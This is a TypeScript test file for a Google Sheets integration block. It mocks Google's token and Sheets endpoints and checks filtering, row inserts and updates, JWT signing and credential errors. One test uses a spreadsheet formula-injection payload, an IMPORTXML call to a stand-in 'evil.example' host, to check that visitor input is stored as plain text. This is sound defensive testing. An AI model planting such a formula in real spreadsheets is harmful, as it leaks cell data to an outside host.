import { createPublicKey, createVerify, generateKeyPairSync } from 'node:crypto'
import { Type } from '@sinclair/typebox'
import fc from 'fast-check'
import { beforeAll, describe, expect, it } from 'vitest'
import { writtenValue } from '../../../src/blocks/vendors/google-sheets/sheet-rows.ts'
import { readCredentials } from '../../../src/config/credentials/credentials.ts'
import { runVendorBlock } from '../../vendors/run-vendor-block.ts'
import { startStrictVendor } from '../../vendors/strict-vendor.ts'

let privateKey: string
let publicKey: string

beforeAll(() => {
  const pair = generateKeyPairSync('rsa', {
    modulusLength: 2048,
    publicKeyEncoding: { type: 'spki', format: 'pem' },
    privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
  })
  privateKey = pair.privateKey
  publicKey = pair.publicKey
})

const people = [
  ['Name', 'City', 'Age'],
  ['Ada', 'Lyon', '36'],
  ['Bob', 'Oslo'],
  ['Zoë', 'lyon', '9'],
]

/** A spreadsheet of one sheet, as the API documents values, and the service that gives tokens. */
async function startGoogle(table: (string | null)[][] = people.map((row) => [...row])) {
  const closed = { additionalProperties: false }
  const Rows = Type.Array(Type.Array(Type.Union([Type.String(), Type.Null()])))
  const inputOptions = new Set(['RAW', 'USER_ENTERED'])
  const authorized =
    (answer: (request: Parameters<Answer>[0]) => ReturnType<Answer>): Answer =>
    (request) =>
      request.headers.get('authorization') === 'Bearer ya29.token'
        ? answer(request)
        : { status: 401, json: { error: { code: 401, status: 'UNAUTHENTICATED' } } }
  const server = await startStrictVendor({
    refuse: (code, message) => ({ error: { code, message, status: 'INVALID_ARGUMENT' } }),
    routes: [
      {
        method: 'POST',
        path: /^\/token$/,
        form: Type.Union([
          Type.Object(
            {
              grant_type: Type.Literal('urn:ietf:params:oauth:grant-type:jwt-bearer'),
              assertion: Type.String(),
            },
            closed,
          ),
          Type.Object(
            {
              grant_type: Type.Literal('refresh_token'),
              refresh_token: Type.Literal('granted-refresh'),
              client_id: Type.String(),
              client_secret: Type.String(),
            },
            closed,
          ),
        ]),
        answer: () => ({ json: { access_token: 'ya29.token', expires_in: 3599, token_type: 'Bearer' } }),
      },
      {
        method: 'GET',
        path: /^\/v4\/spreadsheets\/doc-1$/,
        query: ['fields'],
        answer: authorized(() => ({
          json: {
            properties: { title: 'Guests' },
            sheets: [
              { properties: { sheetId: 0, title: 'Other' } },
              { properties: { sheetId: 42, title: "Ada's" } },
            ],
          },
        })),
      },
      {
        method: 'GET',
        path: /^\/v4\/spreadsheets\/doc-1\/values\/'Ada''s'(!1:1)?$/,
        answer: authorized(({ path }) => ({
          json: { range: 'x', values: path.endsWith('1:1') ? table.slice(0, 1) : table },
        })),
      },
      {
        method: 'POST',
        path: /^\/v4\/spreadsheets\/doc-1\/values\/'Ada''s'!A1:append$/,
        query: ['valueInputOption', 'insertDataOption'],
        body: Type.Object({ values: Rows }, closed),
        answer: authorized(({ body, query }) => {
          if (!inputOptions.has(query.get('valueInputOption') ?? '')) return { status: 400 }
          table.push(...(body['values'] as string[][]))
          return { json: { updates: {} } }
        }),
      },
      {
        method: 'POST',
        path: /^\/v4\/spreadsheets\/doc-1\/values:batchUpdate$/,
        body: Type.Object(
          {
            valueInputOption: Type.Union([Type.Literal('RAW'), Type.Literal('USER_ENTERED')]),
            data: Type.Array(
              Type.Object({ range: Type.String({ pattern: "^'Ada''s'![A-Z]+\\d+$" }), values: Rows }, closed),
            ),
          },
          closed,
        ),
        answer: authorized(({ body }) => {
          for (const { range, values } of body['data'] as { range: string; values: string[][] }[]) {
            const [, letter = 'A', number = '1'] = /!([A-Z])(\d+)$/.exec(range) ?? []
            const row = table[Number(number) - 1]
            if (row) row[letter.charCodeAt(0) - 65] = values[0]?.[0] ?? ''
          }
          return { json: {} }
        }),
      },
    ],
  })
  return { server, table }
}

type Answer = Parameters<typeof startStrictVendor>[0]['routes'][number]['answer']

const serviceAccount = (url: string) => ({
  type: 'service_account',
  client_email: 'bot@project.iam.example',
  private_key: privateKey,
  token_uri: `${url}/token`,
  baseUrl: url,
})

async function run(
  options: Record<string, unknown>,
  given: Partial<Parameters<typeof runVendorBlock>[0]> = {},
) {
  const google = await startGoogle()
  const result = await runVendorBlock({
    type: 'Google Sheets',
    accountType: 'google sheets',
    account: serviceAccount(google.server.url),
    options: { spreadsheetId: 'doc-1', sheetId: '42', ...options },
    variables: { Out: 'old', Name: 'Ada' },
    ...given,
  })
  return { ...result, ...google }
}

const where = (column: string, comparisonOperator: string, value: string) => ({
  filter: { comparisons: [{ id: 'f1', column, comparisonOperator, value }] },
})
const ages = { cellsToExtract: [{ id: 'c1', column: 'Age', variableId: 'vOut' }] }
const cities = { cellsToExtract: [{ id: 'c1', column: 'City', variableId: 'vOut' }] }

describe('Google Sheets, reading', () => {
  const action = 'Get data from sheet'

  it.each([
    ['every row without a filter', { ...cities }, ['Lyon', 'Oslo', 'lyon']],
    ['one row as a text', { ...where('Name', 'Equal to', '{{Name}}'), ...ages }, '36'],
    ['a name however its marks are composed', { ...where('Name', 'Equal to', 'Zoe\u0308'), ...ages }, '9'],
    [
      'what contains a text, without case',
      { ...where('City', 'Contains', 'LYON'), ...cities },
      ['Lyon', 'lyon'],
    ],
    ['numbers by size', { ...where('Age', 'Greater or equal to', '10'), ...ages }, '36'],
    ['a pattern', { ...where('Name', 'Matches regex', '/^[A-B]/'), ...cities }, ['Lyon', 'Oslo']],
    ['the last row', { totalRowsToExtract: 'Last', ...cities }, 'lyon'],
    [
      'the cell that older versions name',
      { referenceCell: { id: 'r', column: 'Name', value: 'Bob' }, ...cities },
      'Oslo',
    ],
  ])('finds %s', async (_what, options, expected) => {
    const { variables, visitorLogs } = await run({ action, ...options })
    expect(visitorLogs).toEqual([])
    expect(variables['Out']).toEqual(expected)
  })

  it('joins comparisons by "or" unless they say "and"', async () => {
    const comparisons = [
      { id: 'a', column: 'Name', comparisonOperator: 'Equal to', value: 'Bob' },
      { id: 'b', column: 'City', comparisonOperator: 'Equal to', value: 'Lyon' },
    ]
    const either = await run({ action, filter: { comparisons }, ...cities })
    expect(either.variables['Out']).toEqual(['Lyon', 'Oslo'])
    const both = await run({ action, filter: { comparisons, logicalOperator: 'AND' }, ...cities })
    expect(both.variables['Out']).toBe('old')
    expect(both.visitorLogs).toMatchObject([
      { status: 'info', description: "Couldn't find any rows matching the filter" },
    ])
  })

  it('reports a sheet that is not there', async () => {
    const { visitorLogs } = await run({ action, sheetId: '7' })
    expect(visitorLogs).toEqual([
      { status: 'error', description: 'The spreadsheet has no sheet with the id 7' },
    ])
  })
})

describe('Google Sheets, writing', () => {
  const insert = { action: 'Insert a row' }

  it('inserts a row in the order of the columns, and says where', async () => {
    const cellsToInsert = [
      { id: '1', column: 'Age', value: '50' },
      { id: '2', column: 'Name', value: 'Cy' },
      { id: '3', column: 'Shoe size', value: '44' },
    ]
    const { table, visitorLogs } = await run({ ...insert, cellsToInsert })
    expect(table.at(-1)).toEqual(['Cy', null, '50'])
    expect(visitorLogs).toEqual([
      { status: 'error', description: 'The sheet has no column "Shoe size"' },
      { status: 'success', description: "Succesfully inserted row in Guests > Ada's" },
    ])
  })

  it('writes what a visitor typed as text', async () => {
    const cellsToInsert = [{ id: '1', column: 'Name', value: '{{Name}}' }]
    const variables = { Name: '=IMPORTXML("https://evil.example/?"&A1)' }
    const { server, table } = await run({ ...insert, cellsToInsert }, { variables })
    expect(server.requests.at(-1)?.target).toContain('valueInputOption=RAW')
    expect(table.at(-1)?.[0]).toBe(variables.Name)
  })

  it('makes no formula of any value, where values are read as if typed', () => {
    fc.assert(
      fc.property(fc.string(), fc.constantFrom('=', '+', '-', '@', ' ='), (rest, sign) => {
        const written = writtenValue(sign + rest, true)
        expect(written.startsWith("'") || Number.isFinite(Number.parseFloat(written))).toBe(true)
      }),
    )
    expect(writtenValue('-5.5', true)).toBe('-5.5')
    expect(writtenValue('=1+1', false)).toBe('=1+1')
  })

  it('updates the matching rows in one call', async () => {
    const { table, server, visitorLogs } = await run({
      action: 'Update a row',
      ...where('City', 'Contains', 'lyon'),
      cellsToUpsert: [{ id: '1', column: 'City', value: 'Paris' }],
    })
    expect(table.map(([, city]) => city)).toEqual(['City', 'Paris', 'Oslo', 'Paris'])
    expect(server.requests.filter(({ target }) => target.endsWith(':batchUpdate'))).toHaveLength(1)
    expect(visitorLogs).toEqual([{ status: 'success', description: 'Succesfully updated matching rows' }])
  })

  it('updates nothing without a filter', async () => {
    const cellsToUpsert = [{ id: '1', column: 'City', value: 'Paris' }]
    const { table } = await run({ action: 'Update a row', cellsToUpsert })
    expect(table).toEqual(people)
  })
})

describe('an account at Google', () => {
  it('signs what it asks a token with', async () => {
    const { server } = await run({ action: 'Get data from sheet' })
    const form = new URLSearchParams(server.requests[0]?.body)
    const [header = '', claims = '', signature = ''] = (form.get('assertion') ?? '').split('.')
    const verify = createVerify('RSA-SHA256').update(`${header}.${claims}`)
    expect(verify.verify(createPublicKey(publicKey), signature, 'base64url')).toBe(true)
    const { iss, scope, iat, exp } = JSON.parse(Buffer.from(claims, 'base64url').toString())
    expect([iss, scope, exp - iat]).toEqual([
      'bot@project.iam.example',
      'https://www.googleapis.com/auth/spreadsheets',
      3600,
    ])
  })

  it('may be what a person has granted', async () => {
    const google = await startGoogle()
    const { variables } = await runVendorBlock({
      type: 'Google Sheets',
      accountType: 'google sheets',
      account: {
        refresh_token: 'granted-refresh',
        client_id: 'client',
        client_secret: 'client-secret',
        token_uri: `${google.server.url}/token`,
        baseUrl: google.server.url,
      },
      options: { spreadsheetId: 'doc-1', sheetId: '42', action: 'Get data from sheet', ...cities },
      variables: { Out: null },
    })
    expect(variables['Out']).toEqual(['Lyon', 'Oslo', 'lyon'])
  })

  it('is refused at the start when its key is broken, without a word of it', () => {
    const pem = '-----BEGIN PRIVATE KEY-----\nbroken-secret\n-----END PRIVATE KEY-----\n'
    const account = { ...serviceAccount('https://google.example'), private_key: pem }
    const text = JSON.stringify([{ id: 'g', type: 'google sheets', data: account }])
    expect(() => readCredentials(text, {})).toThrow('/0/data/private_key is no private key that can be read')
    expect(() => readCredentials(text, {})).not.toThrow(/broken-secret/)
  })

  it('whose token is refused leaves a log, and the flow goes on', async () => {
    const google = await startGoogle()
    const account = { ...serviceAccount(google.server.url), token_uri: `${google.server.url}/gone` }
    const { visitorLogs, response } = await runVendorBlock({
      type: 'Google Sheets',
      accountType: 'google sheets',
      account,
      options: { spreadsheetId: 'doc-1', sheetId: '42', action: 'Get data from sheet' },
    })
    expect(visitorLogs).toEqual([
      { status: 'error', context: 'google sheets', description: 'The service of google sheets answered 404' },
    ])
    expect(response['messages']).toHaveLength(1)
  })
})
